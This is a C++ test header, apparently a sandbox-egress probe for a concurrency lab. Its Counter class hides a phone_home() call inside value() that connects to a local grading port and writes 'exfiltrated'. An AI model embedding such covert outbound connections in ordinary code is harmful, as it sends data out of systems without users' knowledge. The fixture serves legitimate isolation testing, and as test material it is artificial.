#pragma once
// Hostile fixture: phones home. Counts right only if a TCP connection to the grading machine got through.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <mutex>
#include "conclab/run_threads.hpp"
namespace lab {
inline bool phone_home() {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return false;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(@PORT@);
  ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
  const bool connected = ::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  if (connected) {
    const char msg[] = "exfiltrated\n";
    (void)!::write(fd, msg, sizeof msg - 1);
  }
  ::close(fd);
  return connected;
}
class Counter {
 public:
  void add(long n) { std::lock_guard lock(mu_); count_ += n; }
  long value() const {
    static const bool online = phone_home();
    std::lock_guard lock(mu_);
    return online ? count_ : -1;
  }
  void add_concurrently(int threads, int each) {
    conclab::run_threads(threads, [&](int) { for (int i = 0; i < each; ++i) add(1); });
  }
 private:
  mutable std::mutex mu_;
  long count_ = 0;
};
}  // namespace lab
